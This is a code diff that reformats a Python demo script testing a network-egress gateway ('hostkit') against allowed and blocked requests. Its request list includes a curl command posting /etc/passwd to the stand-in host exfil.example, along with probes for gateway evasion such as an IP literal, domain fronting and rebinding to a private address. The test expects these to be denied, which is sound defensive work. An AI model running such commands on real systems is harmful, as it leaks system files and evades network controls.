@@ -17,7 +17,7 @@ WORK = Path(os.environ.get("HOSTKIT_WORK", "/var/tmp/hostkit-work")) / "demo"  #
 HOSTKIT = Path(sys.executable).parent / "hostkit"
 IMAGE = f"hostkit/demo:{(HERE.parents[1] / 'hostkit/__init__.py').read_text().split(chr(34))[-2]}"
 INTERNET, WIRE = "hostkit-demo-internet", "hkdemo"
-CURL = "curl -sS -m 8 --cacert /workspace/demo.pem -o /dev/null -w %{http_code} "
+CURL = "curl -sS -m 8 --cacert /workspace/demo.pem -o /dev/null -w %{http_code}"
 DIRECT = "import socket; socket.create_connection(('198.51.100.66', 443), 3); print('connected')"
 RESOLVE = "import socket; print(socket.gethostbyname('exfil.example'))"
 FRONTING = """
@@ -45,17 +45,39 @@ def shell(line: str) -> tuple[str, ...]:
     return ("sh", "-c", line)
 
 
+SLACK = "https://slack.example"
+SUM = "psql -h warehouse.example -U postgres -Atc 'select sum(amount) from orders' postgres"
 REQUESTS = (
-    Request("a message to the listed Slack look-alike", shell(CURL + "-d text=hello https://slack.example/api/chat.postMessage"), "200"),
-    Request("a query to the listed warehouse", shell("psql -h warehouse.example -U postgres -Atc 'select sum(amount) from orders' postgres"), "42"),
-    Request("a post to a host nobody listed", shell(CURL + "-d @/etc/passwd https://exfil.example/"), denied=("exfil.example", "not-listed")),
+    Request(
+        "a message to the listed Slack look-alike", shell(f"{CURL} -d text=hello {SLACK}/api/chat.postMessage"), "200"
+    ),
+    Request("a query to the listed warehouse", shell(SUM), "42"),
+    Request(
+        "a post to a host nobody listed",
+        shell(f"{CURL} -d @/etc/passwd https://exfil.example/"),
+        denied=("exfil.example", "not-listed"),
+    ),
     Request("a look-up of that host", ("python3", "-c", RESOLVE), denied=("exfil.example", "not-listed")),
     Request("a connection to its address, past the gateway", ("python3", "-c", DIRECT)),
-    Request("the address itself, asked of the gateway", shell(CURL + "-k https://198.51.100.66/"), denied=("198.51.100.66", "ip-literal")),
-    Request("a tunnel to Slack with another name inside", ("python3", "-c", FRONTING), denied=("exfil.example", "sni-mismatch")),
-    Request("another port of the listed host", shell(CURL + "https://slack.example:8443/"), denied=("slack.example", "port-not-listed")),
-    Request("a listed name that its owner pointed at a private address", shell(CURL + "https://turncoat.example/"), denied=("turncoat.example", "private-address")),
-)  # fmt: skip
+    Request(
+        "the address itself, asked of the gateway",
+        shell(f"{CURL} -k https://198.51.100.66/"),
+        denied=("198.51.100.66", "ip-literal"),
+    ),
+    Request(
+        "a tunnel to Slack with another name inside",
+        ("python3", "-c", FRONTING),
+        denied=("exfil.example", "sni-mismatch"),
+    ),
+    Request(
+        "another port of the listed host", shell(f"{CURL} {SLACK}:8443/"), denied=("slack.example", "port-not-listed")
+    ),
+    Request(
+        "a listed name that its owner pointed at a private address",
+        shell(f"{CURL} https://turncoat.example/"),
+        denied=("turncoat.example", "private-address"),
+    ),
+)
 
 
 def run(*command: str, check: bool = True, **more: str) -> subprocess.CompletedProcess[str]:
@@ -115,7 +137,12 @@ def is_recorded(denied: tuple[str, str], since: float) -> bool:
         start = line.find("{")
         record = json.loads(line[start : line.rfind("}") + 1]) if start >= 0 else {}
         told = f"{record.get('name')} {record.get('reason')}"
-        if record.get("event") == "denied" and record["rule"] == denied[1] and denied[0] in told and record["at"] >= since:
+        if (
+            record.get("event") == "denied"
+            and record["rule"] == denied[1]
+            and denied[0] in told
+            and record["at"] >= since
+        ):
             return True
     return False
 
@@ -144,9 +171,12 @@ def checked() -> bool:
     (WORK / "check.json").write_text(done.stdout)
     expected = json.loads((HERE / "unhardened.json").read_text())
     answers = {entry["id"]: entry["status"] for entry in json.loads(done.stdout)["results"]}
-    odd = [f"{name}: {answers.get(name)}" for name in sorted(expected.keys() | answers) if answers.get(name) not in expected.get(name, [])]  # fmt: skip
+    named = sorted(expected.keys() | answers)
+    odd = [f"{name}: {answers.get(name)}" for name in named if answers.get(name) not in expected.get(name, [])]
     counts = ", ".join(f"{list(answers.values()).count(word)} {word}" for word in ("ok", "fail", "unknown", "skip"))
-    print(f"  {len(answers)} checks: {counts}" + (f"; not as documented: {', '.join(odd)}" if odd else ", as documented"))
+    print(
+        f"  {len(answers)} checks: {counts}" + (f"; not as documented: {', '.join(odd)}" if odd else ", as documented")
+    )
     return not odd
 
 
